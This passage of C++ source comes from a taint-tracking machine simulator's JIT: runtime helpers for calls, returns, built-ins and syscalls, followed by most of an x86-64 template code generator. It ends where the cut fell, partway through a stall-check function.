    const auto &a = m.gpr_[(dp->p2 & 1) ? dp->r2 : dp->br];
    uint64_t t0v = a.val;
    if (dp->p2 & 1) {
        const unsigned ds = dp->size == 1 ? 6 : 3;
        t0v = (((a.val >> kRegionShift) & 7)
               << (kImplementedBits - ds)) |
              ((a.val >> ds) & lowMask(kImplementedBits - ds));
    } else if (m.gpr_[dp->r2].nat) {
        deopt(c, dp, obs::DeoptCause::StAddrNat);
        return 2;
    }
    if (a.nat || srcTaint ||
        (dp->size == 2 ? m.mem_.taintSummary().pairDirty(t0v)
                       : m.mem_.taintSummary().lineDirty(t0v))) {
        deopt(c, dp,
              a.nat        ? obs::DeoptCause::StAddrNat
              : srcTaint   ? obs::DeoptCause::StSrcTaint
                           : obs::DeoptCause::StSummary);
        return 2;
    }
    return 0;
}

uint64_t
JitOps::fpClr(JitCtx *c, const DecodedInstr *dp, uint64_t)
{
    Machine &m = *c->m;
    if ((dp->p2 & 4) && coldBail(c, dp))
        return 2;
    if (m.gpr_[dp->r1].nat || m.gpr_[dp->r2].nat) {
        deopt(c, dp, obs::DeoptCause::ClrRegNat);
        return 2;
    }
    return 0;
}

uint64_t
JitOps::aux(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    switch (dp->op) {
      case Opcode::MovToBr:
        if (m.gpr_[dp->r2].nat) {
            spill(c, pcw);
            m.setFault(FaultKind::NatConsumption,
                       FaultContext::ControlFlow, m.gpr_[dp->r2].val,
                       "NaT (tainted) value moved into a branch "
                       "register");
            return 1;
        }
        m.br_[dp->br] = m.gpr_[dp->r2].val;
        break;
      case Opcode::MovToUnat:
        if (m.gpr_[dp->r2].nat) {
            spill(c, pcw);
            m.setFault(FaultKind::NatConsumption,
                       FaultContext::AppRegister, 0,
                       "NaT value moved into ar.unat");
            return 1;
        }
        m.unat_ = m.gpr_[dp->r2].val;
        break;
      case Opcode::MovFromUnat:
        m.setGpr(dp->r1, m.unat_, false);
        break;
      default:
        SHIFT_ASSERT(false, "jit aux helper: unexpected opcode");
    }
    chg(c, dp->statIdx, m.cycleModel_.alu);
    return 0;
}

/*
 * Cross-function linking: with the target (func, pc, stream) already
 * written into the Machine, try to continue natively. Feeds the same
 * per-function hotness counter the interpreter hook feeds — so
 * promotion (and compilation) behaves identically whether a function
 * gets called from interpreted or compiled code — and jumps straight
 * into the target's compiled body when it has an entry for the
 * landing point. Every landing point is a superblock leader (function
 * entry is block 0; a return pc follows a BrCall terminator), so the
 * entry exists whenever the function compiled. Otherwise spill a
 * clean bail: the hook resumes interpreting at the landing point,
 * exactly where the old always-bail scheme resumed, minus the call
 * op re-dispatch.
 */
uint64_t
JitOps::transfer(JitCtx *c, int func, uint64_t pc, bool fast)
{
    Machine &m = *c->m;
    // Compiled targets need no more heat: peekAt skips the hotness
    // accounting on the (dominant) already-compiled case.
    jit::CodeCache::Entry en = m.jitActive_->peekAt(func, fast, pc);
    if (!en) {
        jit::CodeCache::Credit credit;
        en = m.jitActive_->entryAt(func, fast, pc, &credit);
        m.jitCompiled_ += credit.blocks;
        m.jitCodeBytes_ += credit.codeBytes;
        m.jitEvictions_ += credit.evictions;
    }
    if (en)
        return reinterpret_cast<uint64_t>(en.code);
    spill(c, pc | (fast ? (1ULL << 32) : 0));
    return 1;
}

/** Shared BrCall/BrCalli tail: the interpreter's enterFunction. */
uint64_t
JitOps::enter(JitCtx *c, const DecodedInstr *dp, uint64_t pcw,
              int callee)
{
    Machine &m = *c->m;
    chg(c, dp->statIdx, m.cycleModel_.call);
    if (m.callStack_.size() >= kMaxCallDepth) {
        spill(c, pcw);
        m.setFault(FaultKind::IllegalAddress, FaultContext::None, 0,
                   "call stack overflow");
        return 1;
    }
    m.callStack_.push_back(Machine::Frame{
        m.curFunc_, (pcw & 0xffffffffu) + 1, (pcw >> 32) != 0});
    m.curFunc_ = callee;
    // Function entry lands in the callee's fast twin when it has one
    // and its entry superblock has not been demoted (coldHead).
    const DecodedFunction &df = m.decoded_->functions[callee];
    bool fast = m.fastEnabled_ && !df.fast.empty();
    if (fast) {
        const DecodedInstr &head = df.fast[0];
        bool entry = head.op == Opcode::FpEnter ||
                     ((head.op == Opcode::FpChkProbe ||
                       head.op == Opcode::FpStProbe ||
                       head.op == Opcode::FpClrProbe) &&
                      (head.p2 & 4));
        if (entry && m.fpCold_[static_cast<uint32_t>(head.callee)])
            fast = false;
    }
    return transfer(c, callee, 0, fast);
}

uint64_t
JitOps::call(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    // Built-in callees (dp->callee < 0) never compile to a transfer;
    // the call site is an exit op and the interpreter runs them.
    return enter(c, dp, pcw, dp->callee);
}

uint64_t
JitOps::calli(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    uint64_t target = m.br_[dp->br];
    auto callee =
        funcIndexForDesc(target, m.program_->functions.size());
    if (!callee) {
        spill(c, pcw);
        m.setFault(FaultKind::BadIndirect, FaultContext::ControlFlow,
                   target, "indirect call to a non-function address");
        return 1;
    }
    return enter(c, dp, pcw, *callee);
}

uint64_t
JitOps::ret(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    chg(c, dp->statIdx, m.cycleModel_.call);
    if (m.callStack_.empty()) {
        // Program exit: the pc stays on the BrRet, like the
        // interpreter's locals at its doneRun sync.
        spill(c, pcw);
        m.exited_ = true;
        m.exitCode_ = static_cast<int64_t>(m.gpr_[reg::rv].val);
        m.stopped_ = true;
        return 1;
    }
    Machine::Frame frame = m.callStack_.back();
    m.callStack_.pop_back();
    m.curFunc_ = frame.function;
    return transfer(c, frame.function, frame.returnPc, frame.fast);
}

/*
 * Linked built-in call (dp->callee < 0): the interpreter's BrCall
 * builtin arm run against a fully spilled machine. Historically an
 * exit op — every per-request policy fence bailed the rest of the
 * superblock to the interpreter, which is what capped httpd at
 * ~1.05x. Now the common outcome (handler neither stopped the
 * machine nor moved control) returns 0 and the call site falls
 * through to the post-call op's compiled code.
 */
uint64_t
JitOps::builtin(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    int slot = -1 - dp->callee;
    const BuiltinFn *fn = m.builtinSlotFns_[slot];
    if (!fn) {
        spill(c, pcw);
        m.setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                   "no function or built-in named '" +
                       m.decoded_->builtinNames[slot] + "'");
        return 1;
    }
    chg(c, dp->statIdx, m.cycleModel_.call);
    spill(c, pcw);
    // Built-ins are policy-check points: fence the async tier so
    // their TaintMap and argNat reads see the caught-up shadow.
    if (m.asyncTier_) {
        uint64_t ft0 = m.prof_ ? obs::Profiler::nowNanos() : 0;
        const dift::Violation *v = m.asyncTier_->fence();
        if (m.prof_)
            m.prof_->carveSince(obs::Tier::AsyncPublish, m.curFunc_,
                                static_cast<uint32_t>(dp->origIndex),
                                ft0);
        if (v) {
            m.applyAsyncViolation(*v);
            return 1;
        }
    }
    // See runBuiltin: advance past the call site only when the
    // built-in neither stopped the machine nor moved control.
    uint64_t pcBefore = m.pc_;
    int funcBefore = m.curFunc_;
    size_t depthBefore = m.callStack_.size();
    bool fastBefore = m.inFast_;
    // Profiler carve: handler time belongs to the builtin tier, not
    // the compiled stream it was called from. Runtime-checked (the
    // compiled code is shared across profiled and unprofiled runs).
    uint64_t bt0 = m.prof_ ? obs::Profiler::nowNanos() : 0;
    (*fn)(m);
    if (m.prof_)
        m.prof_->carveSince(obs::Tier::Builtin, funcBefore,
                            static_cast<uint32_t>(dp->origIndex), bt0);
    if (m.stopped_)
        return 1;
    if (m.pc_ == pcBefore && m.curFunc_ == funcBefore &&
        m.callStack_.size() == depthBefore) {
        ++m.pc_;
        if (m.inFast_ == fastBefore) {
            ++m.jitLinkedBuiltins_;
            return 0;
        }
    }
    // The handler moved control (alert handlers, longjmp-style
    // built-ins): land wherever the interpreter's resync would.
    return transfer(c, m.curFunc_, m.pc_, m.inFast_);
}

/** Linked system call: the interpreter's Syscall handler. */
uint64_t
JitOps::syscall(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    chg(c, dp->statIdx, m.cycleModel_.syscallBase);
    spill(c, pcw);
    if (m.asyncTier_) {
        uint64_t ft0 = m.prof_ ? obs::Profiler::nowNanos() : 0;
        const dift::Violation *v = m.asyncTier_->fence();
        if (m.prof_)
            m.prof_->carveSince(obs::Tier::AsyncPublish, m.curFunc_,
                                static_cast<uint32_t>(dp->origIndex),
                                ft0);
        if (v) {
            m.applyAsyncViolation(*v);
            return 1;
        }
    }
    if (!m.syscall_) {
        m.setFault(FaultKind::UnknownFunction, FaultContext::None, 0,
                   "no system-call handler installed");
        return 1;
    }
    uint64_t pcBefore = m.pc_;
    int funcBefore = m.curFunc_;
    bool fastBefore = m.inFast_;
    uint64_t st0 = m.prof_ ? obs::Profiler::nowNanos() : 0;
    m.syscall_(m, dp->imm);
    if (m.prof_)
        m.prof_->carveSince(obs::Tier::Host, funcBefore,
                            static_cast<uint32_t>(dp->origIndex), st0);
    if (m.stopped_)
        return 1;
    // The interpreter resumes at pc_ + 1 unconditionally (resync then
    // ++pc), even when the handler rewrote pc_.
    ++m.pc_;
    if (m.pc_ == pcBefore + 1 && m.curFunc_ == funcBefore &&
        m.inFast_ == fastBefore) {
        ++m.jitLinkedBuiltins_;
        return 0;
    }
    return transfer(c, m.curFunc_, m.pc_, m.inFast_);
}

uint64_t
JitOps::blockLink(JitCtx *c, uint64_t func, uint64_t pcw)
{
    return transfer(c, static_cast<int>(func), pcw & 0xffffffffu,
                    (pcw >> 32) != 0);
}

} // namespace shift::jit
