/**
 * @file
 * The template code generator: lowers one DecodedFunction (both
 * streams) to host x86-64 (see docs/JIT.md for the patch-site ABI).
 *
 * Fixed register plan (everything else is scratch):
 *
 *     r15  JitCtx*                  r12  cyFlat (cyclesBy_ flat)
 *     r14  Gpr file (val/nat pairs) rbx  inFlat (instrsBy_ flat)
 *     r13  predicate file (bytes)   rbp  live load-use mask
 *
 * Lowering is a transliteration of runDecoded's front end + handlers:
 * every op pays its qp nullification check, load-use stall, and cycle
 * and per-(provenance, class) stat charges exactly where the
 * interpreter pays them, so all simulated numbers stay bit-identical.
 * Cheap ops are emitted inline with charges constant-folded and
 * coalesced per straight-line run; memory/fused/probe ops call the
 * helpers in runtime.cc; control that leaves the function exits
 * ("bails") back to the interpreter at the op's own pc.
 *
 * Step accounting is block-granular: a block entry debits its whole
 * op count from ctx->stepsLeft up front (sub/jl), and every early
 * exit refunds the ops that did not retire, so the interpreter's
 * maxSteps limit lands on exactly the same instruction either way.
 */

#include "jit/jit_internal.hh"
#include "jit/x64_emitter.hh"

#include <algorithm>
#include <cstring>

#include "dift/annotate.hh"
#include "mem/address_space.hh"
#include "mem/memory.hh"
#include "support/bitops.hh"

#if SHIFT_JIT_BACKEND
#include <sys/mman.h>
#include <unistd.h>
#endif

namespace shift::jit
{

namespace
{

// JitCtx field displacements (asserted against the struct in jit.hh).
constexpr int32_t kOffCyFlat = 8;
constexpr int32_t kOffInFlat = 16;
constexpr int32_t kOffGpr = 24;
constexpr int32_t kOffPred = 32;
constexpr int32_t kOffFpCold = 40;
constexpr int32_t kOffBrRegs = 48;
constexpr int32_t kOffCycles = 56;
constexpr int32_t kOffInstrs = 64;
constexpr int32_t kOffStall = 72;
constexpr int32_t kOffColdBails = 80;
constexpr int32_t kOffLoadMask = 96;
constexpr int32_t kOffStepsLeft = 104;
constexpr int32_t kOffExitPc = 112;
constexpr int32_t kOffExitInFast = 120;
constexpr int32_t kOffTlb = 128;
constexpr int32_t kOffSumWays = 136;
constexpr int32_t kOffFpEnters = 144;
constexpr int32_t kOffFpEntered = 152;
constexpr int32_t kOffUnat = 160;
constexpr int32_t kOffTagTlb = 168;

// Translation-cache entry layout (asserted in mem/memory.hh).
constexpr int32_t kTlbKeyOff = 0;
constexpr int32_t kTlbPageOff = 8;
constexpr int32_t kTlbWritableOff = 16;

// Taint-summary probe-cache way layout (asserted in taint_summary.hh).
constexpr int32_t kWayKeyOff = 0;
constexpr int32_t kWayBitsOff = 8;

/** Ld/St widths the inline memory fast path can move directly. */
bool
memSizeSupported(unsigned size)
{
    return size == 1 || size == 2 || size == 4 || size == 8;
}

constexpr int32_t
gprVal(unsigned r)
{
    return int32_t(r) * 16;
}

constexpr int32_t
gprNat(unsigned r)
{
    return int32_t(r) * 16 + 8;
}

bool
fitsInt32(int64_t v)
{
    return v >= INT32_MIN && v <= INT32_MAX;
}

/** Control flow that ends a superblock. */
bool
isTerminator(Opcode op)
{
    switch (op) {
      case Opcode::Br:
      case Opcode::Chk:
      case Opcode::BrCall:
      case Opcode::BrCalli:
      case Opcode::BrRet:
      case Opcode::Syscall:
      case Opcode::Halt:
      case Opcode::Label:
        return true;
      default:
        return false;
    }
}

/**
 * Ops that always hand control back to the interpreter. Calls and
 * returns between SHIFT functions stay native (the transfer helpers
 * link across compiled bodies), and so do built-in calls and system
 * calls: their helpers spill the whole machine first, run the handler
 * exactly as the interpreter would, and link back into compiled code
 * at the post-call pc (JitOps::builtin/syscall).
 */
bool
isExitOp(const DecodedInstr &dp, const CompileEnv &env)
{
    // Under the decoupled taint tier (docs/ASYNC-TAINT.md) some ops
    // always emit a consumer event or diverge from the synchronous
    // semantics the bodies below encode, independent of register
    // state: annotated (tracked/relaxed) and fill loads, tracked
    // stores and spills, the div-by-zero fence path, and anything
    // from the instrumentation or fast-path families (which the async
    // session never generates — kept here as a safety net). Those
    // interpret; everything else is covered by per-op maybe-clean
    // guards (asyncGuardRegs).
    if (env.async) {
        switch (dp.op) {
          case Opcode::Div:
          case Opcode::Mod:
          case Opcode::DivU:
          case Opcode::ModU:
            return true;
          case Opcode::Ld:
            return dp.spec || dp.fill ||
                   (dp.p1 &
                    (dift::kAnnChecked | dift::kAnnRelaxed)) != 0;
          case Opcode::St:
            return dp.spill || (dp.p1 & dift::kAnnChecked) != 0;
          case Opcode::FusedTagAddr:
          case Opcode::FusedChkByte:
          case Opcode::FusedChkWord:
          case Opcode::FusedClearNat:
          case Opcode::FusedStUpdByte:
          case Opcode::FusedStUpdWord:
          case Opcode::FpEnter:
          case Opcode::FpChkProbe:
          case Opcode::FpStProbe:
          case Opcode::FpClrProbe:
            return true;
          default:
            break;
        }
    }
    switch (dp.op) {
      case Opcode::Halt:
      case Opcode::Label:
        return true;
      case Opcode::CmpNat:
        return !env.natAwareCompare; // feature fault: let it interpret
      case Opcode::Setnat:
      case Opcode::Clrnat:
        return !env.natSetClear;
      default:
        return false;
    }
}

/**
 * Async-tier guard set: the registers whose maybe-taint (NaT) bits
 * must all be clear for the synchronous lowering of this op to
 * coincide with the async interpreter's — a set bit means the
 * interpreter would emit (or a filter would keep) a consumer event,
 * so compiled code bails to it instead. Exactly the complement of
 * the event filter's provably-dropped cases: ALU writes guard both
 * sources and the overwritten destination, plain loads/stores their
 * address/source/destination, the branch/unat moves their single
 * operand. Cmp/Tnat/Tbit need no guard (their async bodies read
 * maybe bits as clean by definition) and the always-event shapes
 * are exit ops before this is consulted. Returns the count filled
 * into regs[].
 */
unsigned
asyncGuardRegs(const DecodedInstr &dp, unsigned regs[3])
{
    unsigned n = 0;
    auto add = [&](unsigned r) {
        if (r == 0)
            return; // r0's NaT is hardwired clear
        for (unsigned i = 0; i < n; ++i)
            if (regs[i] == r)
                return;
        regs[n++] = r;
    };
    switch (dp.op) {
      case Opcode::Add:
      case Opcode::Sub:
      case Opcode::Mul:
      case Opcode::And:
      case Opcode::Andcm:
      case Opcode::Or:
      case Opcode::Xor:
      case Opcode::Shl:
      case Opcode::Shr:
      case Opcode::Sar:
      case Opcode::Sxt:
      case Opcode::Zxt:
      case Opcode::Extr:
      case Opcode::Shladd:
      case Opcode::Mov:
        add(dp.r1);
        add(dp.r2);
        if (!dp.useImm)
            add(dp.r3);
        break;
      case Opcode::Movi:
        // The interpreter hardwires the result NaT clear; only a
        // maybe-tainted destination needs its RegWrite-clear event.
        add(dp.r1);
        break;
      case Opcode::Ld:
        add(dp.r1);
        add(dp.r2);
        break;
      case Opcode::St:
        add(dp.r1);
        add(dp.r2);
        break;
      case Opcode::MovToBr:
      case Opcode::MovToUnat:
        add(dp.r2);
        break;
      case Opcode::MovFromBr:
      case Opcode::MovFromUnat:
      case Opcode::Clrnat:
        add(dp.r1);
        break;
      default:
        break;
    }
    return n;
}

/** Superblock entry heads reject cold blocks (see coldHead). */
bool
isEntryHead(const DecodedInstr &head)
{
    return head.op == Opcode::FpEnter ||
           ((head.op == Opcode::FpChkProbe ||
             head.op == Opcode::FpStProbe ||
             head.op == Opcode::FpClrProbe) &&
            (head.p2 & 4));
}

Cond
condFor(CmpRel rel)
{
    switch (rel) {
      case CmpRel::Eq: return CC_E;
      case CmpRel::Ne: return CC_NE;
      case CmpRel::Lt: return CC_L;
      case CmpRel::Le: return CC_LE;
      case CmpRel::Gt: return CC_G;
      case CmpRel::Ge: return CC_GE;
      case CmpRel::LtU: return CC_B;
      case CmpRel::LeU: return CC_BE;
      case CmpRel::GtU: return CC_A;
      case CmpRel::GeU: return CC_AE;
    }
    return CC_E;
}

HelperFn
helperFor(Opcode op)
{
    switch (op) {
      case Opcode::Ld: return &JitOps::ld;
      case Opcode::St: return &JitOps::st;
      case Opcode::Div:
      case Opcode::Mod:
      case Opcode::DivU:
      case Opcode::ModU: return &JitOps::divmod;
      case Opcode::FusedChkByte: return &JitOps::chkByte;
      case Opcode::FusedChkWord: return &JitOps::chkWord;
      case Opcode::FusedClearNat: return &JitOps::clearNat;
      case Opcode::FusedStUpdByte:
      case Opcode::FusedStUpdWord: return &JitOps::stUpd;
      case Opcode::FpEnter: return &JitOps::fpEnter;
      case Opcode::FpChkProbe: return &JitOps::fpChk;
      case Opcode::FpStProbe: return &JitOps::fpSt;
      case Opcode::FpClrProbe: return &JitOps::fpClr;
      case Opcode::MovToBr:
      case Opcode::MovToUnat:
      case Opcode::MovFromUnat: return &JitOps::aux;
      default: return nullptr;
    }
}

/** Probe-family helpers return 0/2 (alt edge), never 1 (fault). */
bool
isProbeOp(Opcode op)
{
    switch (op) {
      case Opcode::FpEnter:
      case Opcode::FpChkProbe:
      case Opcode::FpStProbe:
      case Opcode::FpClrProbe:
        return true;
      default:
        return false;
    }
}

/**
 * Pending cycle/instruction charges for a straight-line run, flushed
 * as a handful of add-to-memory instructions. Ops sharing a stat index
 * collapse into one bucket entry regardless of position — the charges
 * are plain adds to disjoint slots, so accumulation order within an
 * uninterrupted run is unobservable.
 */
struct PendingCharges
{
    int64_t cycles = 0;
    int64_t instrs = 0;
    std::vector<std::array<int64_t, 3>> buckets; // statIdx, cy, in

    void add(unsigned statIdx, uint64_t cy, uint64_t in)
    {
        cycles += int64_t(cy);
        instrs += int64_t(in);
        for (auto &b : buckets) {
            if (b[0] == int64_t(statIdx)) {
                b[1] += int64_t(cy);
                b[2] += int64_t(in);
                return;
            }
        }
        buckets.push_back({int64_t(statIdx), int64_t(cy), int64_t(in)});
    }

    void flush(Emitter &e)
    {
        if (!cycles && !instrs)
            return;
        if (cycles)
            e.aluMemImm32(Emitter::ALU_ADD, R15, kOffCycles,
                          int32_t(cycles));
        if (instrs)
            e.aluMemImm32(Emitter::ALU_ADD, R15, kOffInstrs,
                          int32_t(instrs));
        for (const auto &b : buckets) {
            int32_t disp = int32_t(b[0]) * 8;
            if (b[1])
                e.aluMemImm32(Emitter::ALU_ADD, R12, disp,
                              int32_t(b[1]));
            if (b[2])
                e.aluMemImm32(Emitter::ALU_ADD, RBX, disp,
                              int32_t(b[2]));
        }
        cycles = instrs = 0;
        buckets.clear();
    }
};

/**
 * void thunk(JitCtx *rdi, const void *rsi): establish the fixed
 * register plan and tail-jump to a block entry. The stack stays
 * 16-aligned at every emitted call site. Whole-function buffers carry
 * this at offset 0; the lazy tier compiles it once standalone
 * (compileEntryThunk) and pairs it with every block entry.
 */
void
emitEntryThunk(Emitter &e)
{
    e.push(RBX);
    e.push(RBP);
    e.push(R12);
    e.push(R13);
    e.push(R14);
    e.push(R15);
    e.aluRegImm32(Emitter::ALU_SUB, RSP, 8);
    e.movRegReg(R15, RDI);
    e.movRegMem(R14, R15, kOffGpr);
    e.movRegMem(R13, R15, kOffPred);
    e.movRegMem(R12, R15, kOffCyFlat);
    e.movRegMem(RBX, R15, kOffInFlat);
    e.movRegMem(RBP, R15, kOffLoadMask);
    e.jmpReg(RSI);
}

/** Static knowledge of the live load-use mask (rbp). */
struct MaskState
{
    enum Kind : uint8_t { Unknown, Zero, Load } kind = Unknown;
    uint16_t loadReg = 0;

    static MaskState unknown() { return {Unknown, 0}; }
    static MaskState zero() { return {Zero, 0}; }
    static MaskState load(uint16_t r) { return {Load, r}; }
};

class FunctionCompiler
{
  public:
    FunctionCompiler(const DecodedFunction &df, const CompileEnv &env)
        : df_(df), env_(env)
    {
    }

    /** Emit everything; false = this function cannot be compiled. */
    bool emit(CompiledFunction &out)
    {
        const auto &slow = df_.code;
        const auto &fast = df_.fast;
        if (!computeLeaders(df_, env_, slowLead_, fastLead_))
            return false;

        epilogue_ = e_.newLabel();
        makeLabels(slowLead_, slowLbl_);
        makeLabels(fastLead_, fastLbl_);

        emitThunk();
        out.slowEntry.assign(slow.size(), -1);
        out.fastEntry.assign(fast.size(), -1);
        if (!emitStream(slow, false, out.slowEntry))
            return false;
        if (!fast.empty() && !emitStream(fast, true, out.fastEntry))
            return false;
        emitRefundStubs();
        emitEpilogue();
        e_.finalize();
        out.blocks = blocks_;
        return true;
    }

    /**
     * Lazy tier: emit the single block led by (inFast, start), entry
     * at offset 0 (the cache's shared entry thunk supplies the
     * register-plan prologue). Every out-edge compiles to a stub that
     * probes the target's publication slot and falls back to the
     * blockLink helper, so blocks stitch together as they are
     * published. False = malformed stream or `start` is not a leader.
     */
    bool emitLazyBlock(CompiledFunction &out, int funcIndex,
                       bool inFast, size_t start,
                       const std::atomic<const void *> *slowSlots,
                       const std::atomic<const void *> *fastSlots,
                       const std::vector<uint8_t> &slowLead,
                       const std::vector<uint8_t> &fastLead)
    {
        // Leaders come precomputed from the LazyFunction (validated
        // at its creation): recomputing them per block compile made
        // lazy compilation O(blocks x function size).
        slowLead_ = slowLead;
        fastLead_ = fastLead;
        const auto &s = inFast ? df_.fast : df_.code;
        const auto &lead = inFast ? fastLead_ : slowLead_;
        if (start >= s.size() || !lead[start])
            return false;
        size_t end = start;
        while (true) {
            if (isTerminator(s[end].op)) {
                ++end;
                break;
            }
            ++end;
            if (end >= s.size())
                return false; // fell off without a sentinel
            if (lead[end])
                break;
        }
        lazy_ = true;
        lazyFunc_ = funcIndex;
        lazyInFast_ = inFast;
        lazyStart_ = start;
        slowSlots_ = slowSlots;
        fastSlots_ = fastSlots;
        epilogue_ = e_.newLabel();
        lazyEntry_ = e_.newLabel();
        std::vector<int32_t> entry(s.size(), -1);
        if (!emitBlock(s, inFast, start, end, entry))
            return false;
        emitLazyEdges();
        emitRefundStubs();
        emitEpilogue();
        e_.finalize();
        out.blocks = blocks_;
        return true;
    }

    const Emitter &emitter() const { return e_; }

  private:
    const DecodedFunction &df_;
    const CompileEnv &env_;
    Emitter e_;
    std::vector<uint8_t> slowLead_, fastLead_;
    std::vector<int> slowLbl_, fastLbl_;
    int epilogue_ = -1;
    uint32_t blocks_ = 0;
    PendingCharges pending_;
    MaskState mask_;

    // Lazy per-block mode (emitLazyBlock): out-edges become slot-probe
    // stubs instead of intra-buffer label jumps.
    bool lazy_ = false;
    int lazyFunc_ = 0;
    bool lazyInFast_ = false;
    size_t lazyStart_ = 0;
    int lazyEntry_ = -1;
    const std::atomic<const void *> *slowSlots_ = nullptr;
    const std::atomic<const void *> *fastSlots_ = nullptr;
    struct LazyEdge
    {
        int label;
        bool inFast;
        uint32_t pc;
    };
    std::vector<LazyEdge> lazyEdges_;

    struct RefundStub
    {
        int label;
        int32_t blockLen;
        int32_t pc;
        int32_t inFast;
    };
    std::vector<RefundStub> stubs_;

    // The current block, for early-exit refunds.
    int32_t blockLen_ = 0;
    int32_t opIndex_ = 0; // of the op being lowered, within its block

    void makeLabels(const std::vector<uint8_t> &lead,
                    std::vector<int> &lbl)
    {
        lbl.assign(lead.size(), -1);
        for (size_t i = 0; i < lead.size(); ++i)
            if (lead[i])
                lbl[i] = e_.newLabel();
    }

    int blockLabel(bool inFast, size_t pc)
    {
        const std::vector<uint8_t> &lead =
            inFast ? fastLead_ : slowLead_;
        SHIFT_ASSERT(pc < lead.size() && lead[pc],
                     "jit jump to a non-leader pc");
        if (!lazy_)
            return (inFast ? fastLbl_ : slowLbl_)[pc];
        // Lazy mode: the block's own head loops back directly; any
        // other leader is an out-edge stub (one per distinct target).
        if (inFast == lazyInFast_ && pc == lazyStart_)
            return lazyEntry_;
        for (const LazyEdge &edge : lazyEdges_)
            if (edge.inFast == inFast && edge.pc == pc)
                return edge.label;
        lazyEdges_.push_back({e_.newLabel(), inFast, uint32_t(pc)});
        return lazyEdges_.back().label;
    }

    void emitThunk() { emitEntryThunk(e_); }

    void emitEpilogue()
    {
        e_.bind(epilogue_);
        e_.movMemReg(R15, kOffLoadMask, RBP);
        e_.aluRegImm32(Emitter::ALU_ADD, RSP, 8);
        e_.pop(R15);
        e_.pop(R14);
        e_.pop(R13);
        e_.pop(R12);
        e_.pop(RBP);
        e_.pop(RBX);
        e_.ret();
    }

    void emitRefundStubs()
    {
        for (const RefundStub &s : stubs_) {
            e_.bind(s.label);
            e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffStepsLeft,
                           s.blockLen);
            e_.movMemImm32(R15, kOffExitPc, s.pc);
            e_.movMemImm32(R15, kOffExitInFast, s.inFast);
            e_.jmp(epilogue_);
        }
        stubs_.clear();
    }

    bool emitStream(const std::vector<DecodedInstr> &s, bool inFast,
                    std::vector<int32_t> &entry)
    {
        const std::vector<uint8_t> &lead = inFast ? fastLead_ : slowLead_;
        for (size_t pc = 0; pc < s.size();) {
            if (!lead[pc])
                return false; // stream must partition into blocks
            size_t end = pc;
            while (true) {
                if (isTerminator(s[end].op)) {
                    ++end;
                    break;
                }
                ++end;
                if (end >= s.size())
                    return false; // fell off without a sentinel
                if (lead[end])
                    break;
            }
            if (!emitBlock(s, inFast, pc, end, entry))
                return false;
            pc = end;
        }
        return true;
    }

    bool emitBlock(const std::vector<DecodedInstr> &s, bool inFast,
                   size_t start, size_t end,
                   std::vector<int32_t> &entry)
    {
        ++blocks_;
        e_.bind(blockLabel(inFast, start));
        entry[start] = int32_t(e_.size());
        blockLen_ = int32_t(end - start);
        // Debit the whole block's step count; a depleted budget bails
        // to the interpreter at the block head (which then charges
        // steps one at a time into the real limit fault).
        int refund = e_.newLabel();
        stubs_.push_back(
            {refund, blockLen_, int32_t(start), inFast ? 1 : 0});
        e_.aluMemImm32(Emitter::ALU_SUB, R15, kOffStepsLeft, blockLen_);
        e_.jcc(CC_L, refund);
        mask_ = MaskState::unknown();
        for (size_t pc = start; pc < end; ++pc) {
            opIndex_ = int32_t(pc - start);
            if (!lowerOp(s, inFast, pc))
                return false;
        }
        if (!isTerminator(s[end - 1].op)) {
            // Fallthrough into the next leader's block, which is the
            // next one emitted (emitStream walks the stream in order),
            // so no jump is needed — just commit the pending charges
            // before the next block's step debit. Lazy blocks have no
            // next block in-buffer; the fallthrough is an out-edge.
            pending_.flush(e_);
            if (lazy_)
                e_.jmp(blockLabel(inFast, end));
        }
        return true;
    }

    /**
     * One stub per distinct lazy out-edge: load the target's
     * publication slot (its address is baked; the arrays never move)
     * and jump straight into the published block, else ask blockLink
     * to resolve/compile/queue it — a miss there spills a clean bail
     * at the target pc, with the source block fully retired either
     * way (edges are only crossed after every refund settled).
     */
    void emitLazyEdges()
    {
        for (const LazyEdge &edge : lazyEdges_) {
            e_.bind(edge.label);
            const std::atomic<const void *> *slot =
                (edge.inFast ? fastSlots_ : slowSlots_) + edge.pc;
            e_.movRegImm64(RAX, reinterpret_cast<uint64_t>(slot));
            e_.movRegMem(RAX, RAX, 0);
            e_.cmpRegImm32(RAX, int32_t(kLazySlotQueued));
            int miss = e_.newLabel();
            e_.jcc(CC_BE, miss); // null/dead/queued: not runnable
            e_.jmpReg(RAX);
            e_.bind(miss);
            e_.movMemReg(R15, kOffLoadMask, RBP);
            e_.movRegReg(RDI, R15);
            e_.movRegImm64(RSI, uint64_t(lazyFunc_));
            e_.movRegImm64(RDX, uint64_t(edge.pc) |
                                    (edge.inFast ? (1ULL << 32) : 0));
            e_.movRegImm64(RAX,
                           reinterpret_cast<uint64_t>(
                               reinterpret_cast<void *>(
                                   &JitOps::blockLink)));
            e_.callReg(RAX);
            e_.cmpRegImm32(RAX, 1);
            int go = e_.newLabel();
            e_.jcc(CC_NE, go);
            e_.jmp(epilogue_);
            e_.bind(go);
            e_.jmpReg(RAX);
        }
        lazyEdges_.clear();
    }

    // ---- per-op framing --------------------------------------------

    /** charge(cost) emitted immediately (uncoalesced paths). */
    void emitChargeNow(unsigned statIdx, uint64_t cy, uint64_t in)
    {
        if (cy)
            e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffCycles,
                           int32_t(cy));
        if (in)
            e_.aluMemImm32(Emitter::ALU_ADD, R15, kOffInstrs,
                           int32_t(in));
        int32_t disp = int32_t(statIdx) * 8;
        if (cy)
            e_.aluMemImm32(Emitter::ALU_ADD, R12, disp, int32_t(cy));
        if (in)
            e_.aluMemImm32(Emitter::ALU_ADD, RBX, disp, int32_t(in));
    }

    /** The front end's load-use stall against the previous op's mask. */
    void emitStallCheck(const DecodedInstr &dp)
    {
        uint64_t use = dp.useMask;
        if (use == 0 || mask_.kind == MaskState::Zero)
            return;
        int32_t cost = int32_t(env_.cycleModel.loadUseStall);
